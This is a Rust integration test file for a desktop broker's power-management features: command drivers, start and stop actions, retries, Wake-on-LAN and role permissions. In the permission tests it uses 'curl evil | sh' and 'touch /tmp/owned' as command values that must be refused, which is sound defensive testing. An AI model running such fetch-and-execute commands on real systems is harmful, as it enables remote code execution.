//! Rules A9 and A10 end to end through the real binary: a pool's command
//! driver (scripted commands appending `$DESKBROKER_ACTION $DESKBROKER_HOST`
//! to a file), manual start and stop through the API and the CLI, the
//! record of each action, retries, timeouts, Wake-on-LAN's packet, who may
//! do what, and a kill -9 in the middle of an action.

use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};

use crate::{App, eventually};

const WAIT: Duration = Duration::from_secs(60);

fn lines(log: &Path) -> Vec<String> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .map(str::to_string)
        .collect()
}

/// `serve` on `data_dir` with power commands allowed (`--allow-power-commands`).
fn spawn(data_dir: &std::path::Path) -> App {
    App::spawn_with(data_dir, "127.0.0.1:0", &["--allow-power-commands"]).0
}

async fn pool_with_driver(app: &App, pool: &str, power: Value) {
    app.ok(
        "PUT",
        &format!("/api/v1/hostPools/{pool}"),
        Some(
            json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
                    "powerSettings": power}),
        ),
        201,
    )
    .await;
    app.ok(
        "PUT",
        &format!("/api/v1/hostPools/{pool}/sessionHosts/h1"),
        Some(json!({"address": "10.0.0.1:3389", "tags": ["gpu-room"],
                    "macAddress": "52:54:00:ab:cd:01"})),
        201,
    )
    .await;
}

async fn host(app: &App, pool: &str) -> Value {
    app.ok(
        "GET",
        &format!("/api/v1/hostPools/{pool}/sessionHosts/h1"),
        None,
        200,
    )
    .await
}

async fn actions(app: &App, pool: &str) -> Vec<Value> {
    let v = app
        .ok(
            "GET",
            &format!("/api/v1/hostPools/{pool}/scalingActions"),
            None,
            200,
        )
        .await;
    v["value"].as_array().cloned().unwrap_or_default()
}

/// Waits until the newest action is no longer Pending; answers it.
async fn settled(app: &App, pool: &str) -> Value {
    crate::eventually(WAIT, || async {
        let last = actions(app, pool)
            .await
            .first()
            .cloned()
            .unwrap_or_default();
        if last["outcome"] != "Pending" && !last.is_null() {
            Ok(last)
        } else {
            Err(last)
        }
    })
    .await
    .unwrap_or_else(|last| panic!("the action stayed Pending: {last}"))
}

#[tokio::test]
async fn a9_a10_the_command_driver_stops_and_starts_hosts_through_the_api_and_the_cli() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("power.log");
    let app = spawn(&dir.path().join("data"));
    let cmd = append_to(&log);
    pool_with_driver(
        &app,
        "p",
        json!({"driver": "command", "powerOnCommand": cmd, "powerOffCommand": cmd}),
    )
    .await;
    let h = host(&app, "p").await;
    assert_eq!(
        (
            &h["powerState"],
            &h["tags"],
            &h["macAddress"],
            &h["drainedBy"]
        ),
        (
            &json!("Running"),
            &json!(["gpu-room"]),
            &json!("52:54:00:ab:cd:01"),
            &Value::Null
        ),
        "{h}"
    );
    let pool = app.ok("GET", "/api/v1/hostPools/p", None, 200).await;
    assert_eq!(pool["startVmOnConnect"], false);
    assert_eq!(pool["powerSettings"]["timeoutSeconds"], 120);

    // A running host cannot be started.
    app.refused(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/start",
        None,
        409,
        "Conflict",
    )
    .await;
    let pending = app
        .ok(
            "POST",
            "/api/v1/hostPools/p/sessionHosts/h1/stop",
            None,
            202,
        )
        .await;
    assert_eq!(
        (&pending["action"], &pending["outcome"], &pending["actor"]),
        (&json!("Stop"), &json!("Pending"), &json!("admin")),
        "{pending}"
    );
    let done = settled(&app, "p").await;
    assert_eq!(done["outcome"], "Succeeded", "{done}");
    assert_eq!(done["id"], pending["id"]);
    let h = host(&app, "p").await;
    assert_eq!(
        (&h["powerState"], &h["status"]),
        (&json!("Stopped"), &json!("Shutdown"))
    );
    // A stopped host takes nobody.
    app.refused(
        "POST",
        "/api/v1/hostPools/p/connect",
        Some(json!({"user": "alice@contoso.com"})),
        503,
        "NoSessionHostAvailable",
    )
    .await;

    let (ok, out, err) = app.cli(&[
        "sessionhost",
        "start",
        "--host-pool",
        "p",
        "--name",
        "h1",
        "--output",
        "json",
    ]);
    assert!(ok, "{out}{err}");
    assert!(out.contains("Pending"), "{out}");
    let done = settled(&app, "p").await;
    assert_eq!(
        (&done["action"], &done["outcome"]),
        (&json!("Start"), &json!("Succeeded"))
    );
    assert_eq!(host(&app, "p").await["powerState"], "Running");
    assert_eq!(lines(&log), ["stop h1", "start h1"], "each action once");
    app.ok(
        "POST",
        "/api/v1/hostPools/p/connect",
        Some(json!({"user": "alice@contoso.com"})),
        200,
    )
    .await;
    // With a session, a stop is refused unless forced.
    app.refused(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/stop",
        None,
        409,
        "Conflict",
    )
    .await;

    let (ok, out, err) = app.cli(&[
        "hostpool",
        "scaling-actions",
        "--name",
        "p",
        "--output",
        "json",
    ]);
    assert!(ok, "{out}{err}");
    let listed: Value = serde_json::from_str(&out).expect("json");
    let kinds: Vec<&str> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["action"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["Start", "Stop"], "newest first: {out}");
    // The audit log has the manual actions too.
    let audit = app.ok("GET", "/api/v1/auditLog", None, 200).await;
    assert!(
        audit["value"]
            .as_array()
            .unwrap()
            .iter()
            .any(
                |e| e["action"] == "POST /api/v1/hostPools/p/sessionHosts/h1/stop"
                    && e["outcome"] == 202
            ),
        "{audit}"
    );
    // Tags and macAddress through the CLI; a drain through the API is the
    // operator's, an undrain clears it.
    let (ok, out, err) = app.cli(&[
        "sessionhost",
        "update",
        "--host-pool",
        "p",
        "--name",
        "h1",
        "--tags",
        "no-autoscale",
        "--mac-address",
        "",
        "--allow-new-session",
        "false",
        "--output",
        "json",
    ]);
    assert!(ok, "{out}{err}");
    let h = host(&app, "p").await;
    assert_eq!(
        (&h["tags"], &h["macAddress"], &h["drainedBy"]),
        (&json!(["no-autoscale"]), &Value::Null, &json!("operator")),
        "{h}"
    );
    app.ok(
        "PATCH",
        "/api/v1/hostPools/p/sessionHosts/h1",
        Some(json!({"allowNewSession": true})),
        200,
    )
    .await;
    assert_eq!(host(&app, "p").await["drainedBy"], Value::Null);
    app.refused(
        "PATCH",
        "/api/v1/hostPools/p/sessionHosts/h1",
        Some(json!({"macAddress": "52:54:00"})),
        400,
        "InvalidParameter",
    )
    .await;
}

#[tokio::test]
async fn a9_a_failing_command_is_retried_then_recorded_failed_and_a_hanging_one_is_killed() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("power.log");
    let app = spawn(&dir.path().join("data"));
    let fail = format!("{}; echo 'no such domain' >&2; exit 1", append_to(&log));
    pool_with_driver(
        &app,
        "p",
        json!({"driver": "command", "powerOnCommand": "true", "powerOffCommand": fail}),
    )
    .await;
    app.ok(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/stop",
        None,
        202,
    )
    .await;
    let done = settled(&app, "p").await;
    assert_eq!(
        (&done["outcome"], &done["attempts"]),
        (&json!("Failed"), &json!(3)),
        "{done}"
    );
    assert!(
        done["message"].as_str().unwrap().contains("no such domain"),
        "{done}"
    );
    assert_eq!(
        lines(&log),
        ["stop h1", "stop h1", "stop h1"],
        "three attempts"
    );
    let h = host(&app, "p").await;
    assert_eq!(h["powerState"], "Running", "back where it was: {h}");

    app.ok(
        "PATCH",
        "/api/v1/hostPools/p",
        Some(json!({"powerSettings": {"powerOffCommand": "sleep 20", "timeoutSeconds": 1}})),
        200,
    )
    .await;
    app.ok(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/stop",
        None,
        202,
    )
    .await;
    let done = settled(&app, "p").await;
    assert_eq!(done["outcome"], "Failed", "{done}");
    assert!(
        done["message"]
            .as_str()
            .unwrap()
            .contains("killed after its timeout of 1 s"),
        "{done}"
    );
}

#[tokio::test]
async fn a9_wake_on_lan_sends_the_magic_packet() {
    let dir = tempfile::tempdir().unwrap();
    let app = spawn(&dir.path().join("data"));
    let listener = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let to = listener.local_addr().unwrap().to_string();
    let wol = json!({"driver": "wakeOnLan", "powerOffCommand": "true", "broadcastAddress": to});
    // Packets to this machine's own services only where the pool names
    // loopback among its address ranges (as for hosts, rule E4).
    app.refused(
        "PUT",
        "/api/v1/hostPools/p",
        Some(
            json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
                    "powerSettings": wol}),
        ),
        400,
        "InvalidParameter",
    )
    .await;
    app.ok(
        "PUT",
        "/api/v1/hostPools/p",
        Some(
            json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
                    "allowedAddressRanges": ["127.0.0.0/8", "10.0.0.0/8"],
                    "powerSettings": wol}),
        ),
        201,
    )
    .await;
    app.ok(
        "PUT",
        "/api/v1/hostPools/p/sessionHosts/h1",
        Some(json!({"address": "10.0.0.1:3389", "tags": ["gpu-room"],
                    "macAddress": "52:54:00:ab:cd:01"})),
        201,
    )
    .await;
    app.ok(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/stop",
        None,
        202,
    )
    .await;
    assert_eq!(settled(&app, "p").await["outcome"], "Succeeded");
    app.ok(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/start",
        None,
        202,
    )
    .await;
    let mut buf = [0u8; 200];
    let (n, _) = tokio::time::timeout(WAIT, listener.recv_from(&mut buf))
        .await
        .expect("a packet")
        .unwrap();
    let mac = [0x52, 0x54, 0x00, 0xab, 0xcd, 0x01];
    let mut want = vec![0xFF; 6];
    for _ in 0..16 {
        want.extend_from_slice(&mac);
    }
    assert_eq!(&buf[..n], &want[..]);
    assert_eq!(settled(&app, "p").await["outcome"], "Succeeded");
    assert_eq!(host(&app, "p").await["powerState"], "Running");
    // wakeOnLan takes no powerOnCommand; a bad address is refused.
    app.refused(
        "PATCH",
        "/api/v1/hostPools/p",
        Some(json!({"powerSettings": {"powerOnCommand": "true"}})),
        400,
        "InvalidParameter",
    )
    .await;
    // Not an address, and a public one (the broker sends Wake-on-LAN only
    // to the farm's own networks).
    for bad in ["not-an-ip", "8.8.8.8", "203.0.113.255:9"] {
        app.refused(
            "PATCH",
            "/api/v1/hostPools/p",
            Some(json!({"powerSettings": {"broadcastAddress": bad}})),
            400,
            "InvalidParameter",
        )
        .await;
    }
}

use crate::append_to;
use crate::credential;

#[tokio::test]
async fn t1_a9_operators_start_and_stop_readers_cannot_and_only_a_full_admin_sets_commands() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("power.log");
    let app = spawn(&dir.path().join("data"));
    let cmd = append_to(&log);
    pool_with_driver(
        &app,
        "p",
        json!({"driver": "command", "powerOnCommand": cmd, "powerOffCommand": cmd}),
    )
    .await;
    let operator = credential(&app, "ops", "operator", &[]).await;
    let reader = credential(&app, "look", "reader", &[]).await;
    let pool_admin = credential(&app, "padmin", "admin", &["p"]).await;
    let stop = "/api/v1/hostPools/p/sessionHosts/h1/stop";
    let (s, v) = app.call_with("POST", stop, None, Some(&reader)).await;
    assert_eq!(
        (s, v["error"]["code"].as_str()),
        (403, Some("Forbidden")),
        "{v}"
    );
    let (s, v) = app.call_with("POST", stop, None, Some(&operator)).await;
    assert_eq!(s, 202, "{v}");
    assert_eq!(v["actor"], "credential:ops");
    assert_eq!(settled(&app, "p").await["outcome"], "Succeeded");
    let (s, v) = app
        .call_with(
            "GET",
            "/api/v1/hostPools/p/scalingActions",
            None,
            Some(&reader),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    // An operator cannot touch power settings or host fields beyond a drain.
    let evil = json!({"powerSettings": {"powerOnCommand": "curl evil | sh"}});
    let (s, _) = app
        .call_with(
            "PATCH",
            "/api/v1/hostPools/p",
            Some(evil.clone()),
            Some(&operator),
        )
        .await;
    assert_eq!(s, 403);
    let (s, _) = app
        .call_with(
            "PATCH",
            "/api/v1/hostPools/p/sessionHosts/h1",
            Some(json!({"tags": ["x"]})),
            Some(&operator),
        )
        .await;
    assert_eq!(s, 403);
    let (s, v) = app
        .call_with(
            "PATCH",
            "/api/v1/hostPools/p/sessionHosts/h1",
            Some(json!({"allowNewSession": false})),
            Some(&operator),
        )
        .await;
    assert_eq!((s, &v["drainedBy"]), (200, &json!("operator")), "{v}");
    // An admin of one pool cannot set a command (it would run as the
    // broker, over every pool), but may change the rest.
    let (s, v) = app
        .call_with(
            "PATCH",
            "/api/v1/hostPools/p",
            Some(evil),
            Some(&pool_admin),
        )
        .await;
    assert_eq!(
        (s, v["error"]["code"].as_str()),
        (403, Some("Forbidden")),
        "{v}"
    );
    let (s, v) = app
        .call_with(
            "PATCH",
            "/api/v1/hostPools/p",
            Some(json!({"powerSettings": {"timeoutSeconds": 30}})),
            Some(&pool_admin),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let pool = app.ok("GET", "/api/v1/hostPools/p", None, 200).await;
    assert_eq!(
        pool["powerSettings"]["powerOnCommand"],
        cmd.as_str(),
        "unchanged"
    );
    assert_eq!(lines(&log), ["stop h1"]);
    for bad in [
        json!({"powerSettings": {"timeoutSeconds": 0}}),
        json!({"powerSettings": {"timeoutSeconds": 3601}}),
        json!({"powerSettings": {"powerOffCommand": "x".repeat(4097)}}),
        json!({"powerSettings": {"driver": "command", "powerOnCommand": null}}),
        json!({"powerSettings": {"driver": "ipmi"}}),
        json!({"powerSettings": {"shell": "bash"}}),
    ] {
        let (s, v) = app
            .call("PATCH", "/api/v1/hostPools/p", Some(bad.clone()))
            .await;
        assert_eq!(
            (s, v["error"]["code"].as_str()),
            (400, Some("InvalidParameter")),
            "{bad}: {v}"
        );
    }
}

#[tokio::test]
async fn a10_a_kill_9_mid_action_is_not_repeated_after_the_restart() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("power.log");
    let app = spawn(&dir.path().join("data"));
    let slow_start = format!("{}; sleep 20", append_to(&log));
    pool_with_driver(
        &app,
        "p",
        json!({"driver": "command", "powerOnCommand": slow_start,
               "powerOffCommand": append_to(&log)}),
    )
    .await;
    app.ok(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/stop",
        None,
        202,
    )
    .await;
    assert_eq!(settled(&app, "p").await["outcome"], "Succeeded");
    app.ok(
        "POST",
        "/api/v1/hostPools/p/sessionHosts/h1/start",
        None,
        202,
    )
    .await;
    let log2 = log.clone();
    assert!(
        eventually(WAIT, || {
            let log = log2.clone();
            async move { lines(&log).len() == 2 }
        })
        .await,
        "the start command ran"
    );
    assert_eq!(host(&app, "p").await["powerState"], "Starting");
    let data = app.data_dir.clone();
    app.kill9();
    let app = spawn(&data);
    let done = settled(&app, "p").await;
    assert_eq!(
        (&done["action"], &done["outcome"]),
        (&json!("Start"), &json!("Failed")),
        "{done}"
    );
    assert!(
        done["message"].as_str().unwrap().contains("not run again"),
        "{done}"
    );
    let h = host(&app, "p").await;
    assert_eq!(
        (&h["powerState"], &h["status"]),
        (&json!("Unknown"), &json!("Unavailable")),
        "{h}"
    );
    // Another restart changes nothing, and the start ran once.
    let data = app.data_dir.clone();
    app.kill9();
    let app = spawn(&data);
    let all = actions(&app, "p").await;
    assert_eq!(all.len(), 2, "{all:?}");
    assert_eq!(all[0]["id"], done["id"]);
    assert_eq!(all[0]["outcome"], "Failed");
    assert_eq!(lines(&log), ["stop h1", "start h1"]);
}

/// Without `--allow-power-commands` the broker runs no shell: not even the
/// admin token can set a command, and Wake-on-LAN still works.
#[tokio::test]
async fn without_allow_power_commands_not_even_the_admin_sets_a_command() {
    let dir = tempfile::tempdir().unwrap();
    let app = App::spawn(&dir);
    let (status, v) = app
        .call(
            "PUT",
            "/api/v1/hostPools/p",
            Some(json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
                        "powerSettings": {"driver": "command", "powerOnCommand": "touch /tmp/owned"}})),
        )
        .await;
    assert_eq!(
        (status, v["error"]["code"].as_str()),
        (403, Some("Forbidden")),
        "{v}"
    );
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("--allow-power-commands"),
        "{v}"
    );
    let (status, _) = app.call("GET", "/api/v1/hostPools/p", None).await;
    assert_eq!(status, 404, "nothing was made");
    app.ok(
        "PUT",
        "/api/v1/hostPools/p",
        Some(
            json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
                    "powerSettings": {"driver": "wakeOnLan"}}),
        ),
        201,
    )
    .await;
}
